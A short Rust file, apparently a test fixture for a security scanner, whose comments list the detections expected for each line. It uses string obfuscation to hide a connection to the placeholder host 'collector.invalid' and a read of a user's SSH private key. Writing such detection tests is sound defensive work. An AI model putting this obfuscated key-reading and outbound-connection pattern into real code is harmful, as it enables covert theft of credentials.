//! dependency: obfstr = "0.4.4"
use obfstr::obfstr;

pub fn dial() -> std::io::Result<std::net::TcpStream> {
    std::net::TcpStream::connect(obfstr!("collector.invalid:443")) //~ code.decode collector.invalid:443; net.connect collector.invalid:443
}

pub fn key() -> std::io::Result<Vec<u8>> {
    std::fs::read(obfstr::obfstring!("/home/u/.ssh/id_rsa")) //~ code.decode /home/u/.ssh/id_rsa; file.read /home/u/.ssh/id_rsa
}
